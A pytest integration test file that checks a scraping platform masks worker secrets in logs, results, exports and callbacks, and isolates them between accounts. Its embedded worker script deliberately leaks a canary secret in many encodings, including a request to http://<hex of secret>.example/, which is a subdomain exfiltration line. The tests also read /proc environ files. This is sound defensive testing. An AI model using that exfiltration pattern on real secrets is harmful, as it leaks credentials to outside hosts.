"""Secrets in a real run: the Worker gets them, and no stored data of the run contains them."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from urllib.parse import quote

import httpx2
import pytest

from fyke_client import FykeAdmin
from support.booted import Booted
from support.projects import python_project
from support.receivers import listening

SUCCEEDED, FAILED = 3, 4
VALUE = 'canary-7f3a: p@ss/w="ö"'
MULTI = "-----BEGIN CANARY KEY-----\nMIIE7f3aCANARYb0\n-----END CANARY KEY-----"
SPELLED = {
    VALUE.encode(),
    VALUE.encode("utf-16-le"),
    quote(VALUE).encode(),
    quote(VALUE, safe="").encode(),
    json.dumps(VALUE)[1:-1].encode(),
    json.dumps(VALUE, ensure_ascii=False)[1:-1].encode(),
    base64.b64encode(VALUE.encode()),
    VALUE.encode().hex().encode(),
    b"canary-7f3a",
    b"MIIE7f3aCANARYb0",
}
REVEALS = """
import base64, json, os, sys, time, urllib.request
from urllib.parse import quote
from sdk import CoreSDK

value, key = os.environ.get("LOGIN", ""), os.environ.get("KEY", "")
mode = CoreSDK.Parameter.get_input_json_dict().get("mode", "")
CoreSDK.Result.push_data({"had": sorted(n for n in ("LOGIN", "KEY") if os.environ.get(n)),
                          "length": len(value), "lines": len(key.splitlines())})
if not value:
    sys.exit(0)
spelled = [value, json.dumps(value), quote(value), quote(value, safe=""), repr(value),
           base64.b64encode(f"user:{value}".encode()).decode(), value.encode().hex()]
for text in spelled:
    print("printed", text)
    print("warned", text, file=sys.stderr)
    CoreSDK.Log.info(f"logged {text}")
    CoreSDK.Log.error(f"logged {text}")
print(key)
CoreSDK.Result.set_table_header([{"label": value, "key": f"k {value}", "format": "text"}])
CoreSDK.Result.push_data({f"k {value}": [{"a": text} for text in spelled], "key": key})
CoreSDK.Result.upsert_data({"id": value, "n": 1}, "id")
sys.stdout.write("z" * 70_000 + value + "z" * 70_000 + "\\n")
sys.stdout.write("z" * (65_536 - 9) + value + "\\n")
sys.stdout.flush()
try:
    urllib.request.urlopen(f"http://{value.encode().hex()}.example/", timeout=20).read()
except OSError:
    pass
CoreSDK.Result.push_data({"done": True})
while mode == "stay":
    time.sleep(60)
if mode == "fail":
    raise RuntimeError(f"cannot sign in with {value}")
"""


@pytest.fixture(scope="module")
def worker(platform: Booted) -> str:
    """Every account may run it; the owner has two secrets for it."""
    slug = platform.push(python_project(REVEALS), "reveals", public=True)
    with FykeAdmin(platform.url, platform.key, timeout=60) as client:
        client.set_secret(slug, "LOGIN", VALUE)
        client.set_secret(slug, "KEY", MULTI)
    return slug


def holding(data: bytes) -> set[bytes]:
    return {item for item in SPELLED if item in data}


def files_with_it(folder: Path) -> list[tuple[str, set[bytes]]]:
    files = [file for file in folder.rglob("*") if file.is_file() and not file.is_symlink()]
    assert files
    found = [(str(file), holding(file.read_bytes())) for file in files]
    return [item for item in found if item[1]]


def test_the_callback_and_the_summary_of_a_run_contain_no_secret(
    platform: Booted, worker: str
) -> None:
    with listening() as receiver:
        body = {
            "scraper_slug": worker,
            "callback_url": receiver.url("/callback"),
            "input": {"parameters": {"system": {}, "custom": {"mode": "fail"}}},
        }
        run = str(platform.call("/api/v1/scraper/run", body)["run_slug"])
        detail = platform.ended(run)
        [received] = receiver.wait("/callback")
    assert detail["status"] == FAILED
    for text in (detail["err_msg"], received.body.decode()):
        assert "cannot sign in with ***LOGIN***" in text
    path = f"{platform.url}/api/fyke/runs/{run}"
    about = [
        httpx2.get(f"{path}{of}", headers={"api-key": platform.key}).text for of in ("", "/log")
    ]
    assert holding("".join([*about, json.dumps(detail)]).encode() + received.body) == set()
    assert files_with_it(platform.folder) == []


def test_no_stored_data_of_a_run_contains_a_secret(platform: Booted, worker: str) -> None:
    run = platform.start_run(worker)
    assert platform.ended(run)["status"] == SUCCEEDED
    log, rows = platform.log_text(run), platform.rows(run)
    assert log.count("***LOGIN***") > 25 and log.count("***KEY***") >= 3
    assert "printed" in log and "warned" in log and "logged" in log
    assert rows[0] == {"had": ["KEY", "LOGIN"], "length": len(VALUE), "lines": 3}
    assert [row["a"].count("***") for row in rows[1]["k ***LOGIN***"]] == [2] * 7
    assert (rows[1]["key"], rows[2]) == ("***KEY***", {"id": "***LOGIN***", "n": 1})
    exported = [_exported(platform, run, form) for form in ("csv", "json", "xml")]
    assert all(b"***LOGIN***" in item for item in exported)
    with FykeAdmin(platform.url, platform.key, timeout=60) as client:
        [site] = client.sites(run).items
    assert site.domain == "***LOGIN***.example"
    assert holding(b"".join(exported) + json.dumps(rows).encode() + log.encode()) == set()
    assert files_with_it(platform.folder) == []


def _exported(platform: Booted, run: str, form: str) -> bytes:
    with FykeAdmin(platform.url, platform.key, timeout=60) as client:
        return httpx2.get(client.export(run, form), timeout=60).content


def test_only_the_sandbox_has_the_secrets_during_the_run(platform: Booted, worker: str) -> None:
    run = platform.start_run(worker, {"mode": "stay"})
    platform.wait_for(lambda: {"done": True} in platform.rows(run), "the last row")
    with_it = [command for pid, command in platform.tree().items() if holding(_environment(pid))]
    assert with_it == [], "the Worker's interpreter has them in its memory"
    arguments = [" ".join(command) for command in platform.tree().values()]
    assert holding("\n".join(arguments).encode()) == set()
    assert files_with_it(platform.folder) == []
    platform.call("/api/v1/scraper/abort", {"run_slug": run})
    platform.ended(run)
    assert files_with_it(platform.folder) == []


def _environment(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/environ").read_bytes()
    except OSError:  # it has just ended
        return b""


def test_runs_of_other_accounts_and_workers_do_not_get_the_secrets(
    platform: Booted, worker: str
) -> None:
    other = platform.new_account("stranger")
    body = {"scraper_slug": worker, "input": {"parameters": {"system": {}, "custom": {}}}}
    theirs = platform.call("/api/v1/scraper/run", body, key=other)["run_slug"]
    named = {"fyke.json": '{"secrets": ["LOGIN"]}'}
    second = platform.push(python_project(REVEALS, **named), "reveals-too")
    mine = platform.start_run(second)
    nothing = {"had": [], "length": 0, "lines": 0}
    assert platform.ended(mine)["status"] == SUCCEEDED
    assert platform.rows(mine) == [nothing]
    assert "needs the secret LOGIN, which your account has not set" in platform.log_text(mine)

    def over() -> bool:
        detail = platform.call("/api/v1/run/detail", {"run_slug": theirs}, key=other)
        return bool(detail["finished_at"])

    platform.wait_for(over, "the end of the stranger's run")
    listed = platform.call("/api/v1/run/result/list", {"run_slug": theirs}, key=other)["list"]
    assert [{k: row[k] for k in nothing} for row in listed] == [nothing]
